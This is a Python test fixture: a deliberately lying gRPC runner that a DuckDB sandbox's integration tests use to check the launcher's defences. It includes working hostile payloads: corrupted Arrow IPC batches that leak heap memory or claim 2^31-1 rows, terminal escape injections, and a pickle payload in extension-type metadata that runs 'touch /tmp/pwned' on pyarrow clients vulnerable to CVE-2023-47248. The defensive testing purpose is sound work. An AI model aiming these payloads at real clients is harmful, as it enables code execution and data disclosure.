"""A runner that speaks the protocol but lies: what a DuckDB exploit could make of the runner.

It is built into a test image on top of the real sandbox image (``hostile_image`` in
``tests/integration/test_hostile_runner.py``) and started by the launcher like any runner. Its
``Ready`` is honest, so the pool takes it; ``Execute`` answers the SQL text with one attack:

- ``offsets``: a string batch whose offsets run 64 KiB past its data (read unchecked, the
  decoder prints the reader's heap);
- ``limits``: 7,000 rows under any row/byte limit, and a summary claiming 1 row;
- ``lie``: 5 rows within every limit, and a summary claiming 1 row;
- ``trailing``: a valid stream, then bytes after its end-of-stream marker;
- ``truncated``: a record batch cut short, then a summary;
- ``dictionaries``: a dictionary, then (in one slice) 100 record batches without rows (each
  once cost a full validation of every dictionary held);
- ``null-rows``: a 96-byte batch of a null column claiming 2^31-1 rows;
- ``extension``: a column of extension type ``arrow.py_extension_type`` (old pyarrow clients
  unpickle its metadata: CVE-2023-47248);
- ``long-failure``: a failure whose message is 8 MiB with terminal escapes;
- ``statement-type``: an honest result whose summary's statement type is a terminal escape;
- ``output``: an output file for a query that writes none;
- anything else: one honest row, ``x = 1``.
"""

from __future__ import annotations

import os
import signal
import sys
from collections.abc import Iterator
from concurrent import futures

import grpc
import pyarrow as pa
import pyarrow.ipc as ipc

from launcher.protocol import runner_pb2 as pb
from launcher.protocol import runner_pb2_grpc as pb_grpc

SOCKET = "/run/duckcell/runner.sock"


def _messages(batch: pa.RecordBatch) -> list[bytes]:
    """The IPC stream of one batch, one message per item: schema, batch, end of stream."""
    sink = pa.BufferOutputStream()
    with ipc.new_stream(sink, batch.schema) as writer:
        schema_end = sink.tell()
        writer.write_batch(batch)
        batch_end = sink.tell()
    data = sink.getvalue().to_pybytes()
    return [data[:schema_end], data[schema_end:batch_end], data[batch_end:]]


def _bad_offsets() -> list[bytes]:
    batch = pa.record_batch([pa.array(["abc", "def"])], names=["s"])
    schema, body, end = _messages(batch)
    good = (0).to_bytes(4, "little") + (3).to_bytes(4, "little") + (6).to_bytes(4, "little")
    bad = (0).to_bytes(4, "little") + (3).to_bytes(4, "little") + (65536).to_bytes(4, "little")
    assert good in body
    return [schema, body.replace(good, bad, 1), end]


def _dictionaries() -> list[bytes]:
    words = pa.array([f"word-{i:06d}" for i in range(5000)])
    empty = pa.DictionaryArray.from_arrays(pa.array([], pa.int32()), words)
    schema, dictionary, batch, end = _stream([pa.record_batch([empty], names=["m"])])
    return [schema, dictionary + batch, batch * 100, end]


def _null_rows() -> list[bytes]:
    schema, batch, end = _messages(pa.record_batch([pa.nulls(5)], names=["n"]))
    return [
        schema,
        batch.replace((5).to_bytes(8, "little"), (2**31 - 1).to_bytes(8, "little")),
        end,
    ]


def _extension() -> list[bytes]:
    metadata = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": b"cos\nsystem\n(S'touch /tmp/pwned'\ntR.",
    }
    field = pa.field("x", pa.binary(), metadata=metadata)
    return _messages(pa.record_batch([pa.array([b"a"])], schema=pa.schema([field])))


def _stream(batches: list[pa.RecordBatch]) -> list[bytes]:
    """An IPC stream, one message per item (dictionaries apart from their batch)."""
    sink = pa.BufferOutputStream()
    with ipc.new_stream(sink, batches[0].schema) as writer:
        for batch in batches:
            writer.write_batch(batch)
    data = sink.getvalue().to_pybytes()
    reader, found, at = pa.BufferReader(data), [], 0
    while at < len(data) - 8:
        ipc.read_message(reader)
        found.append(data[at : reader.tell()])
        at = reader.tell()
    return [*found, data[at:]]


def _rows(n: int) -> list[bytes]:
    return _messages(pa.record_batch([pa.array(range(n), pa.int64())], names=["x"]))


def _summary(rows: int, sent: int, statement_type: str = "SELECT") -> pb.ExecuteChunk:
    return pb.ExecuteChunk(
        summary=pb.Summary(
            rows=rows, ipc_bytes=sent, execute_seconds=0.001, statement_type=statement_type
        )
    )


class HostileRunner(pb_grpc.RunnerServicer):
    def Ready(self, request: pb.ReadyRequest, context: grpc.ServicerContext) -> pb.ReadyReply:
        return pb.ReadyReply(
            runner_version="hostile", duckdb_version="none", warmup_ipc=b"".join(_rows(1))
        )

    def Cancel(self, request: pb.CancelRequest, context: grpc.ServicerContext) -> pb.CancelReply:
        return pb.CancelReply(interrupted=False)

    def Execute(
        self, request: pb.ExecuteRequest, context: grpc.ServicerContext
    ) -> Iterator[pb.ExecuteChunk]:
        attack = request.sql.strip()
        rows, statement_type, output = 1, "SELECT", b""
        if attack == "long-failure":
            message = "Parser Error: \x1b[2J\x1b]0;pwned\x07 " + "x" * (8 << 20)
            reason = pb.FAILURE_REASON_SQL
            yield pb.ExecuteChunk(failure=pb.Failure(reason=reason, message=message))
            return
        if attack == "offsets":
            messages = _bad_offsets()
        elif attack == "limits":
            messages, rows = _rows(7000), 1
        elif attack == "lie":
            messages, rows = _rows(5), 1
        elif attack == "trailing":
            messages = [*_rows(1), b"\x00" * 64]
        elif attack == "truncated":
            schema, body, _ = _rows(100)
            messages = [schema, body[: len(body) // 2]]
        elif attack == "dictionaries":
            messages, rows = _dictionaries(), 0
        elif attack == "null-rows":
            messages, rows = _null_rows(), 2**31 - 1
        elif attack == "extension":
            messages = _extension()
        elif attack == "statement-type":
            messages, statement_type = _rows(1), "\x1b]0;pwned\x07"
        elif attack == "output":
            messages, output = _rows(1), b"PAR1 not asked for PAR1"
        else:
            messages = _rows(1)
        for message in messages:
            yield pb.ExecuteChunk(ipc=message)
        if output:
            yield pb.ExecuteChunk(output=output)
        yield _summary(rows, sum(len(message) for message in messages), statement_type)


def main() -> None:
    server = grpc.server(futures.ThreadPoolExecutor(max_workers=4))
    pb_grpc.add_RunnerServicer_to_server(HostileRunner(), server)
    old_umask = os.umask(0)
    try:
        server.add_insecure_port(f"unix://{SOCKET}")
        server.start()
    finally:
        os.umask(old_umask)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    server.wait_for_termination()


if __name__ == "__main__":
    main()
